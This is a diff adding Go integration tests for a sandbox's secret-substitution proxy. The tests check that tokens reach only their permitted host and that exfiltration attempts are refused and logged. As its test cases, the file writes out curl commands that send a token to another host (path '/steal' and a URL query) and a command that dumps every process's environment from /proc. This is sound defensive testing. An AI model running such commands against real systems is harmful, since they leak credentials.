@@ -1,0 +1,157 @@
+//go:build linux
+
+package integration
+
+import (
+	"encoding/base64"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/boxsh/boxsh/internal/tool"
+)
+
+// authServers starts a server on the loopback for each name that records
+// the Authorization header of each request, and maps the names for the
+// proxy (the test-seam build). It never answers the header back.
+func authServers(t *testing.T, names ...string) (addrs map[string]string, seen func() []string) {
+	t.Helper()
+	useTestSeamFront(t)
+	var mu sync.Mutex
+	var got []string
+	addrs = map[string]string{}
+	var hosts []string
+	for _, name := range names {
+		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			mu.Lock()
+			got = append(got, name+r.URL.Path+" "+r.Header.Get("Authorization"))
+			mu.Unlock()
+			fmt.Fprintf(w, "hello from %s %s", name, r.URL.Path)
+		}))
+		t.Cleanup(srv.Close)
+		addrs[name] = strings.TrimPrefix(srv.URL, "http://")
+		hosts = append(hosts, name+"="+addrs[name])
+	}
+	t.Setenv("BOXSH_PROXY_HOSTS", strings.Join(hosts, ","))
+	return addrs, func() []string {
+		mu.Lock()
+		defer mu.Unlock()
+		return append([]string(nil), got...)
+	}
+}
+
+// TestSecretAtEgress checks --secret: the sandbox holds a stand-in, which
+// the proxy replaces with the value in requests to the secret's host only
+// (a Bearer token, Basic credentials), and a request carrying the stand-in
+// to another host is refused, said to the command and recorded. The value
+// is in no variable of any process of the sandbox.
+func TestSecretAtEgress(t *testing.T) {
+	requireRootless(t)
+	ctx := testContext(t)
+	addrs, seen := authServers(t, "api.example.com", "other.example.com")
+	_, port, _ := net.SplitHostPort(addrs["api.example.com"])
+	const value = "ghp_0123456789abcdefABCDEFghijklmnopqr"
+	t.Setenv("GH_TOKEN", value)
+	audit := filepath.Join(t.TempDir(), "audit.jsonl")
+
+	cmds := []string{
+		`echo "$GH_TOKEN"`,
+		`curl -sS --max-time 10 -H "Authorization: Bearer $GH_TOKEN" http://api.example.com:` + port + `/bearer`,
+		`curl -sS --max-time 10 -u "x-access-token:$GH_TOKEN" http://api.example.com:` + port + `/basic`,
+		`curl -sS --max-time 10 -H "Authorization: Bearer $GH_TOKEN" -o /dev/null -w '%{http_code}' http://other.example.com:` + port + `/steal`,
+		`curl -sS --max-time 10 -o /dev/null -w '%{http_code}' "http://other.example.com:` + port + `/q?t=$GH_TOKEN"`,
+		`curl -sS --max-time 10 http://other.example.com:` + port + `/plain`,
+		`env; cat /proc/[0-9]*/environ | tr '\0' '\n'`,
+	}
+	r := runBoxsh(t, ctx, "", "--sandbox", "--secret", "GH_TOKEN=api.example.com", "--allow-domain", "other.example.com",
+		"--audit", audit, "-c", sections(cmds))
+	out := splitSections(t, r.stdout, len(cmds))
+	require.Equal(t, 0, r.code(), "stderr:\n%s", r.stderr)
+
+	standIn := out[0]
+	assert.Len(t, standIn, len(value))
+	assert.True(t, strings.HasPrefix(standIn, "ghp_"), "the shape is kept: %s", standIn)
+	assert.NotEqual(t, value, standIn)
+	assert.Equal(t, "hello from api.example.com /bearer", out[1])
+	assert.Equal(t, "hello from api.example.com /basic", out[2])
+	assert.Equal(t, "403", out[3], "the stand-in to another host")
+	assert.Equal(t, "403", out[4], "the stand-in in another host's URL")
+	assert.Equal(t, "hello from other.example.com /plain", out[5], "the other host without it")
+	assert.Contains(t, out[6], "GH_TOKEN="+standIn)
+	assert.NotContains(t, r.stdout, value, "the value never enters the sandbox")
+
+	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+value))
+	assert.Equal(t, []string{"api.example.com/bearer Bearer " + value, "api.example.com/basic " + basic, "other.example.com/plain "}, seen(),
+		"the value reaches its host only; the refused requests reach nothing")
+	assert.Contains(t, r.stderr, "carries the stand-in of secret GH_TOKEN")
+	assert.NotContains(t, r.stderr, value, "the log never has the value")
+
+	var used, leaks int
+	for _, e := range readAudit(t, audit) {
+		if e.Kind != tool.AuditNetwork {
+			continue
+		}
+		assert.NotContains(t, fmt.Sprint(e), value)
+		switch {
+		case e.Allowed != nil && *e.Allowed && len(e.Secrets) > 0:
+			assert.Equal(t, []string{"GH_TOKEN"}, e.Secrets)
+			assert.Equal(t, "api.example.com", e.Host)
+			used++
+		case e.Allowed != nil && !*e.Allowed:
+			assert.Equal(t, "other.example.com", e.Host)
+			assert.Equal(t, "the request carries the stand-in of secret GH_TOKEN, which is only for api.example.com", e.Reason)
+			assert.Empty(t, e.Allow)
+			leaks++
+		}
+	}
+	assert.Equal(t, 2, used, "the audit log says which secret went where")
+	assert.Equal(t, 2, leaks)
+}
+
+// TestSecretServe checks that a server's commands (bash calls) hold the
+// stand-in too, and that the proxy puts the value in their requests.
+func TestSecretServe(t *testing.T) {
+	requireRootless(t)
+	ctx := testContext(t)
+	addrs, seen := authServers(t, "api.example.com")
+	_, port, _ := net.SplitHostPort(addrs["api.example.com"])
+	const value = "glpat-ABCDEFGHIJ0123456789xyz"
+	s := startServer(t, ctx, serverOptions{args: []string{"--sandbox", "--secret", "GL_TOKEN=api.example.com"}, env: []string{"GL_TOKEN=" + value}})
+	out := s.call("bash", map[string]any{"command": `echo "$GL_TOKEN"; curl -sS --max-time 10 -H "Authorization: Bearer $GL_TOKEN" http://api.example.com:` + port + `/served`, "timeout": 20}).bash(t)
+	standIn, body, _ := strings.Cut(out.Stdout, "\n")
+	assert.True(t, strings.HasPrefix(standIn, "glpat-") && len(standIn) == len(value) && standIn != value, "a stand-in: %q", standIn)
+	assert.Equal(t, "hello from api.example.com /served", body, "%+v", out)
+	assert.Equal(t, []string{"api.example.com/served Bearer " + value}, seen())
+}
+
+// TestSecretRefusals checks the command lines and settings --secret
+// refuses, each with a message that says why.
+func TestSecretRefusals(t *testing.T) {
+	requireRootless(t)
+	ctx := testContext(t)
+	t.Setenv("SHORT_TOKEN", "abc")
+	t.Setenv("GOOD_TOKEN", "good-0123456789abcdefgh")
+	for _, c := range []struct {
+		args []string
+		want string
+	}{
+		{[]string{"--secret", "GH_TOKEN"}, `--secret "GH_TOKEN": expected NAME=HOST[,HOST...], such as GH_TOKEN=api.github.com`},
+		{[]string{"--secret", "NO_SUCH_TOKEN_SET=api.example.com"}, "secret NO_SUCH_TOKEN_SET (--secret): $NO_SUCH_TOKEN_SET is not set in boxsh's environment"},
+		{[]string{"--secret", "SHORT_TOKEN=api.example.com"}, "fewer than the 12 its stand-in needs"},
+		{[]string{"--secret", "GOOD_TOKEN=api.example.com", "--network", "disabled"}, "--secret GOOD_TOKEN=api.example.com needs --network allowlist, not --network disabled"},
+		{[]string{"--secret", "GOOD_TOKEN=*.com"}, "too broad"},
+	} {
+		r := runBoxsh(t, ctx, "", append(append([]string{"--sandbox"}, c.args...), "-c", "echo ran")...)
+		assert.NotEqual(t, 0, r.code(), "%v", c.args)
+		assert.NotContains(t, r.stdout, "ran", "%v", c.args)
+		assert.Contains(t, r.stderr, c.want, "%v", c.args)
+	}
+}
